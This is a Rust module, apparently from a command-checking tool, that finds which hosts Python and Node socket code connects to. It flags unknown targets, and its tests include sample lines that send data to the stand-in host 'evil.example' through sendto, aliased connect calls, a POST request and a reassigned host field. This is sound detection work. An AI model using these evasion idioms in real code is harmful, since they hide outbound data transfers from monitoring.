//! Other machines that code connects to by sockets, where its text says which.

use super::tokens::Kind;
use super::uses::{Argument, Code, Given};

/// The host that a function which opens a connection is given: `('db.example', 5432)`, `5432, 'db.example'`, an address,
/// or a field of that name.
pub(super) fn host(arguments: &[Argument]) -> Option<String> {
    // Of other fields one may lead elsewhere: `lookup`, `__proto__`, what is spread.
    const PLAIN: &[&str] = &["host", "hostname", "port", "timeout", "family"];
    let is_plain = |field: &Argument| field.name.as_deref().is_some_and(|name| PLAIN.contains(&name));
    let leads_elsewhere = arguments.iter().any(|argument| match &argument.given {
        Given::Fields(fields) => !fields.iter().all(is_plain),
        Given::One(_) | Given::Many(_) => false,
    });
    if leads_elsewhere {
        return None;
    }
    if let Some(named) = super::acts::option(arguments, &["host", "hostname"]) {
        return named.value().known().map(str::to_owned);
    }
    let mut plain =
        arguments.iter().filter(|argument| argument.name.is_none()).map(|argument| &argument.given);
    let first = match plain.next()? {
        Given::Many(parts) => return parts.first()?.known().map(str::to_owned),
        Given::Fields(_) => return None,
        Given::One(value) => value.known()?.to_owned(),
    };
    if let Some((_, rest)) = first.split_once("://") {
        let authority = rest.split(['/', '?', '#']).next()?;
        let host = authority.split(':').next()?;
        // Of another spelling some readers make another host.
        let is_plain = host.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".-".contains(&byte))
            && !first.contains(['@', '\\']);
        return Some(host.to_owned()).filter(|host| is_plain && !host.is_empty());
    }
    if !first.is_empty() && first.bytes().all(|byte| byte.is_ascii_digit()) {
        return match plain.next() {
            Some(Given::One(value)) => value.known().map(str::to_owned),
            None => Some("localhost".to_owned()),
            Some(_) => None,
        };
    }
    (!first.is_empty()).then_some(first)
}

/// The hosts that the sockets of Python code are connected to; none where one of them is not known.
pub(super) fn of_sockets(code: &Code<'_>) -> Option<Vec<String>> {
    const CONNECT: &[&str] = &[
        "connect",
        "connect_ex",
        "create_connection",
        "open_connection",
        "HTTPConnection",
        "HTTPSConnection",
        "SMTP",
        "SMTP_SSL",
    ];
    // By these a socket reaches another machine without it.
    const OTHERS: &[&str] = &[
        "sendto",
        "sendmsg",
        "starttls",
        "set_tunnel",
        "wrap_socket",
        "fromfd",
        "makefile",
        "map",
        "getattr",
        "setattr",
        "partial",
        "starmap",
        "__setattr__",
        "__dict__",
    ];
    let mut hosts = Vec::new();
    for (at, token) in code.tokens.iter().enumerate().filter(|(_, token)| token.kind == Kind::Name) {
        if OTHERS.iter().any(|name| token.is(name)) {
            return None;
        }
        // Where it is sent to is changed later.
        if code.is(at.wrapping_sub(1), ".")
            && ["host", "port", "_tunnel_host"].iter().any(|name| token.is(name))
        {
            return None;
        }
        if !CONNECT.iter().any(|name| token.is(name)) {
            continue;
        }
        if code.is(at + 1, "(") {
            hosts.push(host(&code.arguments(at + 1))?);
        } else if !is_imported(code, at) {
            // It is handed on.
            return None;
        }
    }
    hosts.sort_unstable();
    hosts.dedup();
    Some(hosts)
}

/// Whether a name stands in an import, and keeps its own name there.
fn is_imported(code: &Code<'_>, at: usize) -> bool {
    let before = code.tokens.get(..at).unwrap_or_default().iter().rev().take(MOST_IMPORTED);
    let mut line = before.take_while(|token| token.kind != Kind::Line && !token.is(";"));
    !code.is(at.wrapping_sub(1), ".") && !code.is(at + 1, "as") && line.any(|token| token.is("import"))
}

/// Tokens of an import that are looked at.
const MOST_IMPORTED: usize = 100;

#[cfg(test)]
mod tests {
    use crate::fixture::check;

    #[test]
    fn sockets_to_this_machine() {
        for code in [
            "import socket; s = socket.create_connection(('localhost', 5432), 2); print(s.getpeername())",
            "import socket; s = socket.socket(); s.settimeout(1); print(s.connect_ex(('127.0.0.1', 5432)))",
            "import socket; s = socket.socket(); s.bind(('', 0)); print(s.getsockname()[1])",
            "import http.client; c = http.client.HTTPConnection('localhost', 3000); c.request('GET', '/health')",
            "import socket; s = socket.create_connection(('localhost', 5432)); s.sendall(b'x')",
        ] {
            let found = check(&format!("python3 -c \"{code}\""));
            assert!(!found.contains("net.send *") && !found.contains("opaque"), "{code}: {found}");
        }
        for code in
            ["{port: 80, host: 'localhost', lookup: f}", "{port: 80, ...x}", "{port: 80, __proto__: x}"]
        {
            let found = check(&format!("node -e \"require('net').connect({code})\""));
            assert!(found.contains("net.send *"), "{code}: {found}");
        }
        for code in [
            "require('net').connect({port: 5432, host: 'localhost'})",
            "require('net').connect(5432, 'localhost')",
            "require('net').connect(5432)",
            "new WebSocket('ws://localhost:3000/x')",
        ] {
            let found = check(&format!("node -e \"{code}\""));
            assert!(!found.contains("net.send *"), "{code}: {found}");
        }
    }

    #[test]
    fn sockets_to_others() {
        for (code, host) in [
            ("import socket; socket.create_connection(('db.prod.example', 5432))", "db.prod.example"),
            ("import socket; s = socket.socket(); s.connect((h, 5432))", "*"),
            (
                "import socket; s = socket.socket(); s.connect(('localhost', 1)); s.sendto(b'x', ('evil.example', 1))",
                "*",
            ),
            ("import socket; s = socket.socket(); f = s.connect; f(('evil.example', 1))", "*"),
            ("import socket\ns = socket.socket()\nf = s.connect\nf(('evil.example', 1))", "*"),
            ("import socket\ns = socket.socket()\n(s.connect, 1)[0](('evil.example', 1))", "*"),
            ("from socket import create_connection as c\nc(('evil.example', 1))", "*"),
            (
                "from http.client import HTTPConnection\nc = HTTPConnection('localhost')\nc.host = 'evil.example'",
                "*",
            ),
            (
                "import http.client as c; c.HTTPConnection('evil.example').request('POST', '/')",
                "evil.example",
            ),
        ] {
            let found = check(&format!("python3 -c \"{code}\""));
            assert!(found.contains(&format!("net.send {host}")), "{code}: {found}");
        }
    }
}
